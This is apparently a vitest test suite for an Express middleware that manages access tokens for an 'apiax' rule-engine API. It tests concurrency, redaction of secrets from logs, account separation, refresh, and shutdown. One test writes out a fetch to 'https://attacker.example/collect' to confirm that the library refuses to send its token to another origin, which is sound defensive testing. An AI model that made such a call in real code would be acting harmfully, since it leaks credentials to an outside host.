import { createTestClock } from '@apiax-auth/testing';
import { describe, expect, it, vi } from 'vitest';
import { ApiaxAuthError, apiaxErrorHandler } from '../src/index.js';
import { apiaxAuthFor, captureLogger, canary, evalQuery, expressVersions, listen, postJson, route, startFake } from './support/helpers.js';

describe.each(expressVersions)('apiaxAuth() on $version', ({ express }) => {
  /** The README's example: a route forwarding a JSON body to the rule engine. */
  function evalApp(middleware: ReturnType<typeof apiaxAuthFor>) {
    const app = express();
    app.use(express.json());
    app.use(middleware);
    app.post(
      '/eval',
      route(async (req, res) => {
        const r = await req.apiax.fetch('/api/v3/rules/eval', { method: 'POST', body: JSON.stringify(req.body) });
        res.status(r.status).json(await r.json());
      }),
    );
    app.use(apiaxErrorHandler());
    return app;
  }

  it('forwards a JSON body to /api/v3/rules/eval with a token and never logs it', async () => {
    const fake = await startFake();
    const { logger, text } = captureLogger();
    const middleware = apiaxAuthFor(fake, { logger });
    const url = await listen(evalApp(middleware));

    const response = await postJson(`${url}/eval`, evalQuery);

    expect(response.status).toBe(200);
    const body = (await response.json()) as { results: { results: { actions: unknown }[] }[] };
    expect(body.results[0]?.results[0]?.actions).toBeDefined();
    expect(fake.stats).toMatchObject({ password: 1, apiCalls: 1, rejectedApiCalls: 0 });
    const token = await middleware.auth.getAccessToken();
    expect(text()).not.toContain(token);
  });

  it('logs in exactly once for 200 concurrent requests at cold start', async () => {
    const fake = await startFake();
    const url = await listen(evalApp(apiaxAuthFor(fake)));

    const responses = await Promise.all(Array.from({ length: 200 }, () => postJson(`${url}/eval`, evalQuery)));

    expect(responses.map((r) => r.status)).toEqual(Array(200).fill(200));
    await Promise.all(responses.map((r) => r.arrayBuffer()));
    expect(fake.stats.password).toBe(1);
    expect(fake.stats.tokenRequests).toBe(1);
    expect(fake.stats.apiCalls).toBe(200);
  });

  it('costs nothing to attach: a route that never calls req.apiax never logs in', async () => {
    const fake = await startFake();
    const app = express();
    app.use(apiaxAuthFor(fake));
    app.get('/health', (req, res) => {
      res.json({ attached: typeof req.apiax.fetch === 'function' && typeof req.apiax.getAccessToken === 'function' });
    });
    const url = await listen(app);

    for (let i = 0; i < 20; i += 1) {
      const response = await fetch(`${url}/health`);
      expect(await response.json()).toEqual({ attached: true });
    }

    expect(fake.stats.tokenRequests).toBe(0);
    expect(fake.requests.filter((r) => r.endpoint === 'token')).toEqual([]);
  });

  it('shares one client and one token across all requests through a middleware', async () => {
    const fake = await startFake();
    const middleware = apiaxAuthFor(fake);
    const app = express();
    app.use(middleware);
    app.get(
      '/token',
      route(async (req, res) => res.json({ token: await req.apiax.getAccessToken() })),
    );
    const url = await listen(app);

    const tokens = new Set<string>();
    for (let i = 0; i < 5; i += 1) tokens.add(((await (await fetch(`${url}/token`)).json()) as { token: string }).token);

    expect(tokens.size).toBe(1);
    expect(tokens.has(await middleware.auth.getAccessToken())).toBe(true);
    expect(fake.stats.password).toBe(1);
    expect(middleware.auth.status()).toMatchObject({ state: 'valid', grants: { password: 1, refresh: 0 } });
  });

  it('keeps two accounts apart with requestProperty', async () => {
    const fake = await startFake({
      users: [
        { username: 'production', password: 'production-password' },
        { username: 'sandbox', password: 'sandbox-password' },
      ],
    });
    const production = apiaxAuthFor(fake, { username: 'production', password: 'production-password' });
    const sandbox = apiaxAuthFor(fake, { username: 'sandbox', password: 'sandbox-password', requestProperty: 'apiaxSandbox' });
    expect(sandbox.requestProperty).toBe('apiaxSandbox');
    const app = express();
    app.use(production, sandbox);
    app.get(
      '/tokens',
      route(async (req, res) => {
        res.json({ production: await req.apiax.getAccessToken(), sandbox: await req.apiaxSandbox.getAccessToken() });
      }),
    );
    const url = await listen(app);

    const first = (await (await fetch(`${url}/tokens`)).json()) as { production: string; sandbox: string };
    const second = (await (await fetch(`${url}/tokens`)).json()) as { production: string; sandbox: string };

    expect(first.production).not.toBe(first.sandbox);
    expect(second).toEqual(first);
    expect(first.production).toBe(await production.auth.getAccessToken());
    expect(first.sandbox).toBe(await sandbox.auth.getAccessToken());
    const logins = fake.requests.filter((r) => r.endpoint === 'token' && r.grantType === 'password');
    expect(logins.map((r) => r.username).sort()).toEqual(['production', 'sandbox']);
  });

  it('answers a wrong password with one login attempt and a problem response free of the password', async () => {
    const fake = await startFake();
    const password = canary('password');
    const { logger, text } = captureLogger();
    const middleware = apiaxAuthFor(fake, { password, logger });
    const url = await listen(evalApp(middleware));

    const sequential = [];
    for (let i = 0; i < 3; i += 1) sequential.push(await postJson(`${url}/eval`, evalQuery));
    const concurrent = await Promise.all(Array.from({ length: 20 }, () => postJson(`${url}/eval`, evalQuery)));

    expect(fake.stats.tokenRequests).toBe(1);
    expect(fake.stats.failedLogins).toBe(1);
    expect(fake.stats.apiCalls).toBe(0);
    for (const response of [...sequential, ...concurrent]) {
      expect(response.status).toBe(502);
      expect(response.headers.get('content-type')).toMatch(/^application\/problem\+json/);
      const body = await response.text();
      expect(body).not.toContain(password);
      expect(JSON.parse(body)).toMatchObject({ status: 502, code: 'invalid_credentials' });
    }
    expect(text()).not.toContain(password);
    expect(JSON.stringify(middleware.auth.status())).not.toContain(password);
  });

  it('keeps serving with the still-valid token while the token endpoint fails at refresh time', async () => {
    const clock = createTestClock();
    const fake = await startFake({ now: clock.now });
    const middleware = apiaxAuthFor(fake, { now: clock.now });
    const retries: number[] = [];
    middleware.auth.on('retry', (event) => retries.push(event.attempt));
    const url = await listen(evalApp(middleware));
    expect((await postJson(`${url}/eval`, evalQuery)).status).toBe(200);
    const firstExpiry = middleware.auth.status().accessTokenExpiresAt!;

    // Two minutes left: inside the refresh window, far from expiry.
    clock.advance(1800 - 120);
    fake.fail({ type: 'html', status: 503 }, 3);
    for (let i = 0; i < 5; i += 1) {
      const response = await postJson(`${url}/eval`, evalQuery);
      expect(response.status).toBe(200);
      await response.arrayBuffer();
    }

    // The refresh goes on in the background through its retries and lands.
    await vi.waitFor(() => expect(middleware.auth.status().accessTokenExpiresAt).toBeGreaterThan(firstExpiry), {
      timeout: 25_000,
      interval: 100,
    });
    expect(retries.length).toBeGreaterThanOrEqual(3);
    expect(fake.requests.filter((r) => r.endpoint === 'token' && r.status === 503)).toHaveLength(3);
    expect(fake.stats.password).toBe(1);
    expect(fake.stats.rejectedApiCalls).toBe(0);
    expect((await postJson(`${url}/eval`, evalQuery)).status).toBe(200);
  });

  it('refuses to send the token to another origin: 500 problem, nothing sent', async () => {
    const fake = await startFake();
    const middleware = apiaxAuthFor(fake);
    const app = express();
    app.use(middleware);
    app.get(
      '/leak',
      route(async (req, res) => {
        const r = await req.apiax.fetch('https://attacker.example/collect');
        res.sendStatus(r.status);
      }),
    );
    app.use(apiaxErrorHandler());
    const url = await listen(app);

    const response = await fetch(`${url}/leak`);

    expect(response.status).toBe(500);
    expect(await response.json()).toMatchObject({ status: 500, code: 'origin_not_allowed' });
    expect(fake.stats.apiCalls).toBe(0);
  });

  it('passes errors that are not ApiaxAuthError on untouched', async () => {
    const fake = await startFake();
    const thrown = new Error('not ours');
    let received: unknown;
    const app = express();
    app.use(apiaxAuthFor(fake));
    app.get(
      '/boom',
      route(async () => {
        throw thrown;
      }),
    );
    app.use(apiaxErrorHandler());
    app.use((error: unknown, _req: unknown, res: { status(code: number): { send(body: string): void } }, _next: unknown) => {
      received = error;
      res.status(418).send('teapot');
    });
    const url = await listen(app);

    const response = await fetch(`${url}/boom`);

    expect(response.status).toBe(418);
    expect(received).toBe(thrown);
    expect(received).not.toBeInstanceOf(ApiaxAuthError);
  });

  it('stops the client on shutdown: server.close() then auth.close({ logout: true })', async () => {
    const fake = await startFake();
    const middleware = apiaxAuthFor(fake);
    const app = express();
    app.use(middleware);
    app.get(
      '/token',
      route(async (req, res) => res.json({ ok: (await req.apiax.getAccessToken()).length > 0 })),
    );
    const url = await listen(app);
    expect((await fetch(`${url}/token`)).status).toBe(200);

    await middleware.auth.close({ logout: true });

    expect(fake.stats.logouts).toBe(1);
    expect(fake.stats.activeSessions).toBe(0);
    await expect(middleware.auth.getAccessToken()).rejects.toMatchObject({ code: 'closed' });
  });
});
